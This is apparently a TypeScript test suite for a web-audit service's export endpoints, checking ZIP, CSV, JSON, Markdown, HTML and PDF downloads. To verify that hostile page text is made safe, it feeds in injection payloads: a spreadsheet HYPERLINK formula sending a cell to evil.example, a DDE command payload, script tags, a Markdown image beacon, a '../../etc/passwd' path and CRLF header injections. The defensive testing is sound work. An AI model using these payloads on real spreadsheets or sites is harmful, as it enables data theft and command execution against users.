import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { get } from 'node:http';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { apiOf } from '../../../test/support/api.ts';
import { testApp } from '../../../test/support/app.ts';
import { temporaryFolder } from '../../../test/support/command.ts';
import { firstExisting, realPart, skipWithout } from '../../../test/support/real-part.ts';
import { sampleReport } from '../../../test/support/sample-report.ts';
import { newAudit, type StoredPage } from '../../../test/support/stored-audit.ts';
import { type Headers, newKey, newOrganization, newReport } from '../../../test/support/tenants.ts';
import { until } from '../../../test/support/until.ts';
import { readPage } from '../../core/index.ts';
import { judged } from '../../core/report/check-page.ts';
import keywordDensity from '../../core/rules/spam/sp_kw_density.ts';
import { connectionsOf } from '../../platform/postgres/connection.ts';
import { acrossOrganizations } from '../../platform/postgres/tenancy.ts';
import make from './make.task.ts';
import { zipped } from './zip.ts';

const app = await testApp({
  tasks: [make],
  environment: {
    SERVICE_RATE_LIMIT_PER_MINUTE: '100000',
    SERVICE_CHROMIUM_PATH: 'none',
  },
});
const api = await apiOf(app, [make]);

interface Answered {
  readonly status: number;
  readonly text: string;
  readonly bytes: Buffer;
  readonly headers: globalThis.Headers;
}

/** Asked for until it is made, or has failed. */
async function exported(path: string, headers: Headers): Promise<Answered> {
  return until(`${path} is made`, async () => {
    const answer = await fetch(`${api.base}${path}`, { headers });
    const bytes = Buffer.from(await answer.arrayBuffer());
    return answer.status === 202
      ? null
      : { status: answer.status, text: bytes.toString('utf8'), bytes, headers: answer.headers };
  });
}

async function reader(pages: readonly StoredPage[], site = 'www.example.com') {
  const org = await newOrganization(app);
  const { headers } = await newKey(app, { orgId: org.id, scopes: ['reports:read'] });
  const { id, reportIds } = await newAudit(app, org, pages, { site });
  return { org, headers, id, reportIds, at: (file: string) => `/v1/audits/${id}/export.${file}` };
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  'a"b,c;d\r\ne',
  '<script>alert(1)</script>',
  '![x](http://evil.example/x.png)',
  '"}]}',
  '\u202egnp.exe',
  '\ufeff=1',
];

/** Hostile wherever a page can put words: title, quotes, advice, address. */
function hostilePages(): StoredPage[] {
  return HOSTILE.map((text, i) => {
    const report = sampleReport();
    const [first, ...rest] = report.violations;
    assert.ok(first?.evidence);
    const evidence = {
      ...first.evidence,
      quotes: first.evidence.quotes.map((quote) => ({ ...quote, text })),
      facts: [text],
      fix: text,
      fix_personal: true,
    };
    return {
      url: `https://www.example.com/${i === 0 ? '../../etc/passwd' : encodeURIComponent(text)}`,
      pattern: text.replaceAll(/[\r\n]/g, ' '),
      report: JSON.stringify({
        ...report,
        page: { ...report.page, title: text },
        violations: [{ ...first, evidence }, ...rest],
      }),
    };
  });
}

const unzip = realPart('unzip', firstExisting(['/usr/bin/unzip', '/usr/local/bin/unzip']));
const python = realPart('Python', firstExisting(['/usr/bin/python3', '/usr/local/bin/python3']));

function namesIn(bytes: Buffer): string[] {
  const file = join(temporaryFolder(), 'export.zip');
  writeFileSync(file, bytes);
  const listed = execFileSync(python.path, [
    '-c',
    'import sys,zipfile,json\nz=zipfile.ZipFile(sys.argv[1])\nassert z.testzip() is None\nprint(json.dumps([[i.filename,i.date_time,oct(i.external_attr>>16),z.read(i).decode("utf-8")] for i in z.infolist()]))',
    file,
  ]);
  const entries: [string, number[], string, string][] = JSON.parse(listed.toString());
  for (const [name, time, mode] of entries)
    assert.deepEqual([name, time, mode], [name, [2000, 1, 1, 12, 0, 0], '0o100644']);
  return entries.map(([name]) => name);
}

describe('export.zip', () => {
  it('is sound to unzip and to Python, with a file for each page and the data', {
    skip: skipWithout(unzip, python),
  }, async () => {
    const { headers, at } = await reader(hostilePages());
    const { bytes } = await exported(at('zip'), headers);
    const file = join(temporaryFolder(), 'export.zip');
    writeFileSync(file, bytes);
    assert.match(execFileSync(unzip.path, ['-t', file]).toString(), /No errors detected/);
    const names = namesIn(bytes);
    assert.equal(names[0], 'audit.json');
    assert.equal(names.length, 1 + HOSTILE.length);
    for (const name of names.slice(1))
      assert.match(name, /^pages\/\d{3}-[\p{L}\p{N}][\p{L}\p{N}\p{M}-]*\.md$/u);
    const json = execFileSync(unzip.path, ['-p', file, 'audit.json']).toString();
    assert.equal(json, (await exported(at('json'), headers)).text, 'the very export.json');
  });

  it('is the same bytes in every time zone and at every time', () => {
    const code = `const { zipped } = await import(${JSON.stringify(new URL('./zip.ts', import.meta.url).href)});
      const all = []; for await (const chunk of zipped([{ name: 'pages/żółw.md', content: ['a'.repeat(9_999), 'b'] }, { name: 'b', content: [] }])) all.push(chunk);
      process.stdout.write(Buffer.concat(all).toString('base64'));`;
    const made = ['UTC', 'Pacific/Kiritimati', 'America/St_Johns', 'Europe/Warsaw', 'Pacific/Apia'].map(
      (TZ) =>
        execFileSync(process.execPath, ['--input-type=module', '-e', code], {
          env: { ...process.env, TZ },
        }).toString(),
    );
    assert.ok((made[0]?.length ?? 0) > 100);
    assert.equal(new Set(made).size, 1);
  });

  it('is made while it is read: nothing is taken from a page before the one before it has gone out', async () => {
    const taken: string[] = [];
    async function* files() {
      for (const name of ['a', 'b', 'c']) {
        taken.push(name);
        yield { name, content: [createHash('sha512').update(name).digest('hex').repeat(2_000)] };
      }
    }
    for await (const _ of zipped(files())) {
      assert.deepEqual(taken, ['a']);
      break;
    }
  });
});

describe('export.csv', () => {
  it('opens in spreadsheets: a byte order mark, one line a row, formulas defused, either delimiter', async () => {
    const { headers, at } = await reader(hostilePages());
    for (const [query, delimiter] of [
      ['', ','],
      ['?delimiter=semicolon', ';'],
      ['?rows=pages', ','],
      ['?rows=pages&delimiter=semicolon&lang=pl', ';'],
    ] as const) {
      const { text, bytes, headers: answer } = await exported(at(`csv${query}`), headers);
      assert.equal(answer.get('content-type'), 'text/csv; charset=utf-8');
      assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
      const rows: string[][] = parse(bytes, { bom: true, delimiter });
      assert.equal(text.trimEnd().split('\r\n').length, rows.length);
      assert.equal(new Set(rows.map((row) => row.length)).size, 1);
      if (query.includes('pages')) assert.equal(rows.length, 1 + HOSTILE.length);
      for (const cell of rows.flat()) assert.doesNotMatch(cell, /^[\s\ufeff]*[=+\-@＝＋－＠]/u);
    }
  });

  it('has the rows of export.json, in either language without judging again', async () => {
    const { html } = keywordDensity.examples().hit[0] ?? assert.fail();
    const made = judged(readPage({ html: html ?? '' }), {
      rules: ['sp_kw_density'],
      explain: true,
      lang: 'en',
    });
    const { headers, at } = await reader([
      {
        url: 'https://www.example.com/zażółć',
        report: JSON.stringify(made.report()),
        texts: JSON.stringify(made.texts()),
      },
    ]);
    for (const lang of ['en', 'pl']) {
      const { pages } = JSON.parse((await exported(at(`json?lang=${lang}`), headers)).text);
      const [head = [], ...rows]: string[][] = parse(
        (await exported(at(`csv?lang=${lang}`), headers)).bytes,
        {
          bom: true,
        },
      );
      const [item] = pages[0].items;
      const column = (name: string) => rows[0]?.[head.indexOf(name)];
      assert.equal(rows.length, pages[0].items.length);
      assert.equal(column('url'), 'https://www.example.com/zażółć');
      assert.deepEqual(
        [column('rule_id'), column('title'), column('signal'), column('fix'), column('fix_personal')],
        [item.rule_id, item.title, String(item.signal), item.fix, String(item.fix_personal)],
      );
    }
    assert.match((await exported(at('csv?lang=pl'), headers)).text, /[ąćęłńóśźż]/);
  });
});

describe('files', () => {
  it('are saved under a plain name, and may do nothing in a browser', async () => {
    const { org, headers, at, reportIds } = await reader(
      [{ url: 'https://x.example/', report: JSON.stringify(sampleReport()) }],
      'evil".exe\r\nX-Evil: 1/../żółw.example',
    );
    await acrossOrganizations(app.db, (tx) =>
      sql`update reports set host = 'a"b\r\nset-cookie: x' where org_id = ${org.id}`.execute(tx),
    );
    const paths = [
      ...['json', 'zip', 'csv', 'html'].map(at),
      ...['json', 'md', 'html'].map((file) => `/v1/reports/${reportIds[0]}/export.${file}`),
    ];
    for (const path of paths) {
      const { status, headers: answer, text } = await exported(path, headers);
      assert.equal(status, 200, text);
      assert.match(
        answer.get('content-disposition') ?? '',
        /^attachment; filename="(?:audit|report)-[a-z0-9-]+-\d{4}-\d\d-\d\d\.en\.(?:json|zip|csv|html|md)"$/,
        path,
      );
      assert.equal(answer.get('x-content-type-options'), 'nosniff');
      assert.equal(answer.get('cache-control'), 'no-store');
      const policy = answer.get('content-security-policy') ?? '';
      assert.match(policy, /^sandbox; default-src 'none';/);
      assert.doesNotMatch(policy, /script-src|allow-|\*/);
      assert.equal(answer.get('x-evil') ?? answer.get('set-cookie'), null);
    }
  });

  it('of one report are its data, Markdown and HTML, at once and in either language', async () => {
    const { html } = keywordDensity.examples().hit[0] ?? assert.fail();
    const made = judged(readPage({ html: html ?? '' }), {
      rules: ['sp_kw_density'],
      explain: true,
      lang: 'en',
    });
    const { headers, reportIds } = await reader([
      {
        url: 'https://x.example/',
        report: JSON.stringify(made.report()),
        texts: JSON.stringify(made.texts()),
      },
    ]);
    const at = (file: string) => fetch(`${api.base}/v1/reports/${reportIds[0]}/export.${file}`, { headers });
    for (const lang of ['en', 'pl'] as const) {
      const textIn = async (file: string): Promise<string> => (await at(`${file}?lang=${lang}`)).text();
      assert.equal(JSON.parse(await textIn('json')).report_lang, lang);
      assert.match(await textIn('md'), lang === 'en' ? /What to do/ : /Co zrobić/);
      assert.match(await textIn('html'), new RegExp(`<html lang="${lang}"`));
    }
  });

  it('cannot be printed without a browser: 503 pdf_unavailable, in the words of the panel', async () => {
    const { headers, at, reportIds } = await reader([
      { url: 'https://x.example/', report: JSON.stringify(sampleReport()) },
    ]);
    for (const path of [at('pdf'), `/v1/reports/${reportIds[0]}/export.pdf`]) {
      const { status, text, headers: answer } = await exported(path, headers);
      assert.deepEqual([status, JSON.parse(text).error.code], [503, 'pdf_unavailable']);
      assert.ok(Number(answer.get('retry-after')) >= 1);
      for (const language of ['en', 'pl']) {
        const again = await exported(path, { ...headers, 'accept-language': language });
        const panel = readFileSync(
          new URL(`../../../panel/messages/app/${language}.json`, import.meta.url),
          'utf8',
        );
        assert.equal(JSON.parse(again.text).error.message, `${JSON.parse(panel).app_no_pdf}.`);
      }
    }
  });

  it('that are not read to the end hold nothing back', async () => {
    const org = await newOrganization(app);
    const { headers } = await newKey(app, { orgId: org.id });
    const noise = (n: number): string =>
      createHash('sha512').update(String(n)).digest('base64').repeat(3_000);
    const pages = Array.from({ length: 12 }, (_, n): StoredPage => {
      const report = sampleReport();
      const [first] = report.violations;
      assert.ok(first?.evidence);
      const evidence = {
        ...first.evidence,
        quotes: first.evidence.quotes.map((quote) => ({ ...quote, text: noise(n) })),
      };
      return {
        url: `https://x.example/${n}`,
        report: JSON.stringify({ ...report, violations: [{ ...first, evidence }] }),
      };
    });
    const { id } = await newAudit(app, org, pages);
    const path = `/v1/audits/${id}/export.json`;
    const whole = await exported(path, headers);
    assert.ok(whole.bytes.length > 3_000_000, String(whole.bytes.length));
    assert.equal(whole.headers.get('content-length'), String(whole.bytes.length));
    await Promise.all(
      Array.from(
        { length: 20 },
        () =>
          new Promise<void>((resolve, reject) => {
            const request = get(`${api.base}${path}`, { headers }, (response) => {
              response.once('data', () => request.destroy());
              response.once('close', resolve);
              response.once('error', () => {});
            });
            request.once('error', (error) => (request.destroyed ? resolve() : reject(error)));
          }),
      ),
    );
    await until('all connections are free again', () => {
      const { open, idle } = connectionsOf(app.db);
      return open === idle;
    });
    assert.deepEqual((await exported(path, headers)).bytes, whole.bytes);
  });
});

describe('GET /v1/reports/{id}/export.json', () => {
  it('is the stored report, whatever is in it', async () => {
    const org = await newOrganization(app);
    const { headers } = await newKey(app, { orgId: org.id });
    const stored = JSON.stringify({
      ...sampleReport(),
      page: { ...sampleReport().page, title: '</script>\u2028' },
    });
    const id = await newReport(app, org.id, org.projectId, stored);
    const { text } = await exported(`/v1/reports/${id}/export.json`, headers);
    assert.deepEqual(JSON.parse(text), JSON.parse(stored));
  });
});
